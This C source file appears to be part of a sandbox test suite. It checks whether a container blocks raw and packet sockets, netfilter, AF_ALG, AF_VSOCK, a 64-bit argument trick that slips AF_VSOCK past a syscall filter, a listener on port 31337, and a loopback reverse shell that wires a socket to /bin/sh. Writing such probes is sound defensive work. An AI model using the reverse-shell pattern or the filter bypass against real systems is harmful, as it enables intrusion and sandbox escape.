/* Attacks over sockets. The reverse shell connects to a listener in the same container. */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/netlink.h>
#include <netinet/in.h>
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <unistd.h>

#include "attack.h"

enum { BACKDOOR_PORT = 31337, SHELL_PORT = 31338 };

static int run_icmp(void)
{
	return attack_result_fd(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
}

static int run_sniff(void)
{
	return attack_result_fd(socket(AF_PACKET, SOCK_RAW, htons(3))); /* ETH_P_ALL */
}

static int run_netfilter(void)
{
	return attack_result_fd(socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER));
}

static int run_alg(void)
{
	return attack_result_fd(socket(AF_ALG, SOCK_SEQPACKET, 0));
}

static int run_vsock(void)
{
	return attack_result_fd(socket(AF_VSOCK, SOCK_STREAM, 0));
}

/*
 * AF_VSOCK (40) with a bit above the lower half: the kernel takes the argument as int and sees 40,
 * a filter that compares all 64 bits with 40 sees something else.
 */
static int run_vsock_wide(void)
{
	return attack_result_fd(
		syscall(SYS_socket, (uint64_t)0x100000028, (uint64_t)SOCK_STREAM, (uint64_t)0));
}

static void loopback(struct sockaddr_in *a, uint16_t port)
{
	*a = (struct sockaddr_in){
		.sin_family = AF_INET,
		.sin_port = htons(port),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};
}

/* A listening socket, or -errno. */
static int listen_on(uint16_t port)
{
	struct timeval limit = { .tv_sec = 2 };
	struct sockaddr_in a;
	int fd = socket(AF_INET, SOCK_STREAM, 0), one = 1;

	if (fd < 0)
		return -errno;
	loopback(&a, port);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
	if (bind(fd, (struct sockaddr *)&a, sizeof(a)) || listen(fd, 1)) {
		int r = -errno;

		close(fd);
		return r;
	}
	return fd;
}

static int run_backdoor_port(void)
{
	int fd = listen_on(BACKDOOR_PORT);

	if (fd < 0)
		return fd;
	close(fd);
	return ATTACK_DONE;
}

/* The victim's side: connects out and makes the connection a shell's input and output. */
static void reverse_shell(void)
{
	struct sockaddr_in a;
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	loopback(&a, SHELL_PORT);
	if (fd < 0 || connect(fd, (struct sockaddr *)&a, sizeof(a)))
		_exit(errno);
	for (int i = 0; i < 3; i++)
		if (dup2(fd, i) < 0)
			_exit(errno);
	execl("/bin/sh", "sh", "-c", "echo pwned", (char *)NULL);
	_exit(errno);
}

static int run_reverse_shell(void)
{
	char text[5] = "";
	int listener = listen_on(SHELL_PORT), fd, status = 0;
	pid_t pid;

	if (listener < 0)
		return listener;
	pid = fork();
	if (pid < 0)
		return -errno;
	if (pid == 0)
		reverse_shell();
	/* accept4 with no flags is what servers use; the listener's receive limit bounds it. */
	fd = (int)syscall(SYS_accept4, listener, NULL, NULL, 0);
	if (fd >= 0 && recv(fd, text, sizeof(text), MSG_WAITALL) == sizeof(text) &&
	    !memcmp(text, "pwned", sizeof(text)))
		return ATTACK_DONE;
	if (syscall(SYS_wait4, pid, &status, 0, NULL) == pid && status >> 8 != 0)
		return -(status >> 8 & 0xff);
	return fd < 0 ? -EPERM : -ECONNRESET;
}

const struct attack attacks_network[] = {
	{ "raw-socket", "sends forged ICMP packets", run_icmp },
	{ "sniff", "reads all packets of the interface", run_sniff },
	{ "netfilter", "talks to the firewall's kernel code", run_netfilter },
	{ "crypto-socket", "opens the kernel's crypto (AF_ALG)", run_alg },
	{ "vsock", "talks to the hypervisor (AF_VSOCK)", run_vsock },
	{ "vsock-wide", "the same past a 64-bit comparison", run_vsock_wide },
	{ "backdoor-port", "listens on port 31337", run_backdoor_port },
	{ "reverse-shell", "connects out and serves a shell there", run_reverse_shell },
	{ NULL, NULL, NULL },
};
